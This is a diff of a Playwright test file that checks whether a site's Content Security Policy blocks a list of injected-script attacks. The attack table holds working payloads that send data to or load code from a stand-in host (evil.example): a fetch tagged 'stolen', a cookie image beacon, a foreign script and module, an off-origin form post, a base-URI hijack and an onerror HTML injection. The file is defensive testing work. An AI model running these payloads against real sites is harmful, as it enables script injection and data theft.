@@ -2,12 +2,12 @@ import type { Page } from '@playwright/test';
 import { SHELL_HEADERS } from '../../shared/tools/compose/headers.ts';
 import { expect, test } from '../../shared/testing/e2e/site.ts';
 
-/** What somebody who got a text into the page would try next; the policy (shared/tools/compose/headers.ts) stops each. */
-test.use({ expectedComplaint: /./ });
+/** Attacks after an injection into the page; the policy (shared/tools/compose/headers.ts) blocks each. */
+test.use({ expectedPageError: /./ });
 
 const EVIL = 'https://evil.example';
 
-/** Each runs in the page and leaves window.harmed set if it worked. */
+/** Each runs in the page and sets window.harmed if it succeeds. */
 const ATTACKS: Record<string, { directive: string; attack: (evil: string) => void }> = {
   'an event handler in an attribute': {
     directive: 'require-trusted-types-for',
@@ -18,19 +18,19 @@ const ATTACKS: Record<string, { directive: string; attack: (evil: string) => voi
       button.click();
     },
   },
-  'text run as code': {
+  'code from a string': {
     directive: 'require-trusted-types-for',
     // oxlint-disable-next-line no-implied-eval -- the attack itself
     attack: () => void setTimeout('window.harmed = true', 0),
   },
-  'a stranger’s script': {
+  'a foreign script': {
     directive: 'require-trusted-types-for',
     attack: (evil) =>
       void document.body.append(Object.assign(document.createElement('script'), { src: `${evil}/x.js` })),
   },
-  'a stranger’s module': { directive: 'script-src', attack: (evil) => void import(`${evil}/x.js`).catch(() => {}) },
-  'a stranger’s picture': { directive: 'img-src', attack: (evil) => void (new Image().src = `${evil}/x.png?cookie`) },
-  'a form that posts elsewhere': {
+  'a foreign module': { directive: 'script-src', attack: (evil) => void import(`${evil}/x.js`).catch(() => {}) },
+  'a foreign image': { directive: 'img-src', attack: (evil) => void (new Image().src = `${evil}/x.png?cookie`) },
+  'a form that posts to another origin': {
     directive: 'form-action',
     attack: (evil) => {
       const form = Object.assign(document.createElement('form'), { action: `${evil}/x`, method: 'post' });
@@ -42,44 +42,44 @@ const ATTACKS: Record<string, { directive: string; attack: (evil: string) => voi
     directive: 'frame-src',
     attack: (evil) => void document.body.append(Object.assign(document.createElement('iframe'), { src: `${evil}/` })),
   },
-  'a worker from text': {
+  'a worker from a string': {
     directive: 'require-trusted-types-for',
     attack: () => void new Worker(URL.createObjectURL(new Blob(['fetch("/")']))),
   },
-  'a request that carries data away': {
+  'a request that sends data to another origin': {
     directive: 'connect-src',
     attack: (evil) => void fetch(`${evil}/?stolen`).catch(() => {}),
   },
-  'HTML from text': {
+  'HTML from a string': {
     directive: 'require-trusted-types-for',
     attack: () =>
       void (document.body.appendChild(document.createElement('div')).innerHTML =
         '<img src=x onerror="window.harmed=true">'),
   },
-  'another base for every link': {
+  'a new base URL': {
     directive: 'base-uri',
     attack: (evil) => void document.head.append(Object.assign(document.createElement('base'), { href: `${evil}/` })),
   },
 };
 
-for (const [what, { directive, attack }] of Object.entries(ATTACKS)) {
-  test(`${what} is stopped by ${directive}`, async ({ page }) => {
+for (const [name, { directive, attack }] of Object.entries(ATTACKS)) {
+  test(`${name} is blocked by ${directive}`, async ({ page }) => {
     await page.goto('/home');
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-    const asked = requestsTo(page, EVIL);
-    const stoppedBy = await runAttack(page, attack);
-    expect(stoppedBy).toMatch(new RegExp(`^${directive}`));
+    const responses = responsesFrom(page, EVIL);
+    const blockedBy = await runAttack(page, attack);
+    expect(blockedBy).toMatch(new RegExp(`^${directive}`));
     expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
-    expect(asked()).toEqual([]);
+    expect(responses()).toEqual([]);
   });
 }
 
-test('an inline script in the document is stopped by script-src', async ({ page }) => {
+test('an inline script in the document is blocked by script-src', async ({ page }) => {
   await page.route('**/home', async (route) => {
-    const answer = await route.fetch();
+    const response = await route.fetch();
     await route.fulfill({
-      response: answer,
-      body: (await answer.text()).replace(
+      response,
+      body: (await response.text()).replace(
         '</body>',
         '<script>window.harmed = true</script><img src="x" onerror="window.harmed = true"></body>',
       ),
@@ -90,7 +90,7 @@ test('an inline script in the document is stopped by script-src', async ({ page 
   expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
 });
 
-test('the documents carry the policy and the other headers, exactly', async ({ request }) => {
+test('the documents have exactly the policy and the other headers', async ({ request }) => {
   for (const path of ['/home', '/feed', '/login', '/nope']) {
     const { headers, policy } = await headersOf(request, path);
     expect(headers).toMatchObject(
@@ -117,19 +117,19 @@ async function headersOf(request: { get(path: string): Promise<{ headers(): Reco
   return { headers, policy: (headers['content-security-policy'] ?? '').split('; ') };
 }
 
-function requestsTo(page: Page, origin: string): () => string[] {
+function responsesFrom(page: Page, origin: string): () => string[] {
   const urls: string[] = [];
   page.on('response', (response) => response.url().startsWith(origin) && urls.push(response.url()));
   return () => urls;
 }
 
-/** Runs an attack in the page and gives the directive that stopped it. */
+/** Runs an attack in the page and returns the directive that blocked it. */
 async function runAttack(page: Page, attack: (evil: string) => void): Promise<string> {
   await page.evaluate(() => {
-    const seen = window as { stoppedBy?: string };
-    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => (seen.stoppedBy ??= effectiveDirective));
+    const seen = window as { blockedBy?: string };
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => (seen.blockedBy ??= effectiveDirective));
   });
-  await page.evaluate(attack, EVIL).catch(() => {}); // Trusted Types refuse by throwing
-  await expect.poll(() => page.evaluate(() => (window as { stoppedBy?: string }).stoppedBy)).toBeDefined();
-  return page.evaluate(() => (window as { stoppedBy?: string }).stoppedBy!);
+  await page.evaluate(attack, EVIL).catch(() => {}); // Trusted Types block by throwing
+  await expect.poll(() => page.evaluate(() => (window as { blockedBy?: string }).blockedBy)).toBeDefined();
+  return page.evaluate(() => (window as { blockedBy?: string }).blockedBy!);
 }
